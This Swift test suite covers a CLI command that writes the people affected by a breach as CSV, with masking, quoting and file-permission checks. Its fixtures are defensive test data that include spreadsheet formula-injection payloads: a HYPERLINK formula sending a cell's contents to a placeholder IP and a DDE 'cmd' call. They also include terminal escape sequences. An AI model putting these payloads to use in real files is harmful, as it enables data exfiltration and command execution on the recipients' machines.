import Foundation
import TestSupport
import Testing

/// `tenmatsu affected`: the people as CSV, for who has to write to them.
@Suite("The command affected")
struct AffectedTests {
  /// Names that a table has to carry, and how a spreadsheet is to get them.
  private static let names = [
    ("Say \"hi\", please", "Say \"hi\", please"), ("two\r\nlines", "two\r\nlines"), ("a,b", "a,b"),
    ("\"", "\""), ("\"\u{301}x\"", "\"\u{301}x\""), ("'quoted'", "'quoted'"), ("a=b", "a=b"),
    ("=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")", "'=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("＝1+1", "'＝1+1"), ("＠x", "'＠x"),
    ("4000 0015 4041 9462", "400000******9462"), ("表 ソ\u{1F600}", "表 ソ\u{1F600}"),
    ("\u{1B}[2Jgone", "\u{1B}[2Jgone"),
  ]

  @Test("writes CSV that RFC 4180 reads back: quotes, commas, line breaks, and no formulas")
  func quoting() throws {
    let small = try SmallScene(names: Self.names.map(\.0))
    let outcome = try small.run("affected")
    #expect(outcome.status == 0 && outcome.error == "", "\(outcome.error)")
    let table = try CSVReader.table(outcome.output)
    #expect(table.count == 222)
    let members = table.filter { $0["population"] == "members" }
    for (member, name) in zip(members, Self.names) { #expect(member["name"] == name.1) }
    let known = try small.scene.rows(of: "members").prefix(160)
    #expect(members.map { $0["key"] ?? "" } == known.map { $0[0] })
    #expect(members.map { $0["email"] ?? "" } == known.map { $0[1] })
  }

  @Test(
    "has a line for each record: whose it is, what of it, how sure, in which sets, when, and by which lines")
  func lines() throws {
    let small = try SmallScene()
    let outcome = try small.run("affected")
    let records = try CSVReader.records(outcome.output)
    #expect(
      records.first == [
        "person", "service", "population", "key", "name", "email", "country", "withdrawn", "inPopulation",
        "grade",
        "classes", "sets", "firstRead", "lastRead", "evidence",
      ])
    let table = try CSVReader.table(outcome.output)
    #expect(Set(table.map { $0["person"] ?? "" }).count == 207, "records of one person share the number")
    let card = try #require(table.first { $0["sets"]?.contains("cards") == true })
    #expect(card["classes"]?.contains("card.number:") == true && card["sets"] == "members cards individual")
    for row in table {
      #expect(["proven", "probable"].contains(row["grade"] ?? ""))
      #expect(row["evidence"]?.wholeMatch(of: #/\d+:\d+(-\d+)?( \d+:\d+(-\d+)?)*/#) != nil, "\(row)")
      #expect(
        row["firstRead"]?.hasPrefix("2024-05-02T") == true && row["firstRead"]?.hasSuffix("+09:00") == true)
    }
    let rows = try small.scene.rows(of: "members").prefix(160)
    let members = table.filter { $0["population"] == "members" }
    #expect(members.map { $0["withdrawn"] == "yes" } == rows.map { $0[5] != "NULL" })
    #expect(members.map { $0["country"] ?? "" } == rows.map { $0[3] })
  }

  @Test("is masked on a terminal, and in full in a file, a pipe, and with --reveal")
  func masking() throws {
    let small = try SmallScene(names: Self.names.map(\.0))
    let addresses = try small.scene.rows(of: "members").prefix(160).map { $0[1] }
    let (status, screen) = try Program.runOnTerminal(SmallScene.arguments("affected"), in: small.folder)
    let shown = try table(on: screen).filter { $0.contains(",members,") }
    #expect(status == 0)
    try #require(shown.count == 160)
    #expect(!addresses.contains { screen.contains($0) })
    #expect(shown[20].contains("•••@"))
    let (_, revealed) = try Program.runOnTerminal(
      SmallScene.arguments("affected", ["--reveal"]), in: small.folder)
    #expect(addresses.allSatisfy { revealed.contains($0) })
    let file = try small.run("affected", ["--output", "people.csv"])
    let written = try String(contentsOfFile: small.folder.path + "/people.csv", encoding: .utf8)
    #expect(file.status == 0 && file.output == "" && addresses.allSatisfy { written.contains($0) })
    #expect(try small.run("affected").output == written)
    let attributes = try FileManager.default.attributesOfItem(atPath: small.folder.path + "/people.csv")
    #expect(attributes[.posixPermissions] as? Int == 0o600)
  }

  @Test("never lets a value command the terminal", arguments: [[], ["--reveal"]])
  func escapes(_ options: [String]) throws {
    let small = try SmallScene(names: [
      "\u{1B}[2J\u{1B}]0;x\u{7}", "\u{9B}31m", "two\r\nlines", "\u{202E}gnp",
    ])
    let (status, screen) = try Program.runOnTerminal(
      SmallScene.arguments("affected", options + ["--no-color"]), in: small.folder)
    #expect(status == 0)
    let table = try table(on: screen)
    #expect(table.count { $0.contains(",members,") } == 160)
    for line in table {
      #expect(
        !line.unicodeScalars.contains { [0x1B, 0x7, 0x9B, 0x202E].contains($0.value) },
        "\(line.debugDescription)")
    }
  }

  /// The lines behind the progress bar, which is erased with escape sequences of its own.
  private func table(on screen: String) throws -> [Substring] {
    let start = try #require(screen.range(of: "person,service")).lowerBound
    return screen[start...].split(whereSeparator: \.isNewline)
  }

  @Test(
    "--set lists those of one set, as it is counted", arguments: ["cards", "passwords", "individual", "rest"])
  func set(_ id: String) throws {
    let small = try SmallScene()
    let all = try CSVReader.table(try small.run("affected").output)
    let outcome = try small.run("affected", ["--set", id])
    let some = try CSVReader.table(outcome.output)
    let affected = try small.scene.truth()["affected"] as? [String: Any]
    let truth = (affected?["sets"] as? [[String: Any]])?.first { $0["id"] as? String == id }
    #expect(outcome.status == 0 && some.count == truth?["records"] as? Int)
    #expect(some == all.filter { $0["sets"]?.split(separator: " ").contains(Substring(id)) == true })
  }

  @Test("--bom puts a byte order mark before the same bytes")
  func byteOrderMark() throws {
    let small = try SmallScene()
    let plain = try small.run("affected", ["--output", "plain.csv"])
    let marked = try small.run("affected", ["--bom", "--output", "marked.csv"])
    #expect(plain.status == 0 && marked.status == 0)
    let bytes = try ["plain", "marked"].map {
      Array(try Data(contentsOf: URL(filePath: small.folder.path + "/\($0).csv")))
    }
    #expect(bytes[1] == [0xEF, 0xBB, 0xBF] + bytes[0])
    #expect(bytes[0].starts(with: Array("person,service,".utf8)))
  }

  @Test(
    "is refused with what to do, and writes nothing",
    arguments: [
      (
        ["--set", "card"], 2,
        "Error: The data map has no set card. Its sets: members, cards, passwords, friends, "
      ),
      (["--set", ""], 2, "Error: The data map has no set "),
      (["--output", "scene"], 3, "Error: scene cannot be written. Name a file"),
    ] as [([String], Int32, String)])
  func wrongUse(_ options: [String], _ status: Int32, _ says: String) throws {
    let small = try SmallScene()
    let outcome = try small.run("affected", options)
    #expect(outcome.status == status && outcome.output == "")
    #expect(outcome.error.hasPrefix(says), "\(outcome.error)")
    #expect(try FileManager.default.contentsOfDirectory(atPath: small.folder.path) == ["scene"])
  }

  @Test("needs a data map that is there, and says how to come by one")
  func noMap() throws {
    let small = try SmallScene()
    let none = try Program.run(["affected", "scene/evidence"], in: small.folder)
    #expect(none.status == 2 && none.output == "")
    #expect(
      none.error.hasPrefix(
        "Error: People are counted by a data map: give it with --data-map FILE. tenmatsu map drafts one from a dump"
      ))
    let missing = try Program.run(["affected", "scene/evidence", "--data-map", "map.yml"], in: small.folder)
    #expect(missing.status == 3 && missing.output == "")
    #expect(
      missing.error.hasPrefix("Error: The data map map.yml cannot be read: no such file"), "\(missing.error)")
  }

  @Test("A map without sets says so where one is asked for")
  func noSets() throws {
    let small = try SmallScene()
    let map = try small.scene.text("data-map.yml").split(separator: "sets:\n")[0]
    try small.folder.write(String(map), as: "scene/data-map.yml")
    let outcome = try small.run("affected", ["--set", "cards"])
    #expect(
      outcome.status == 2 && outcome.error.hasPrefix("Error: The data map has no set cards. It names none"))
  }
}
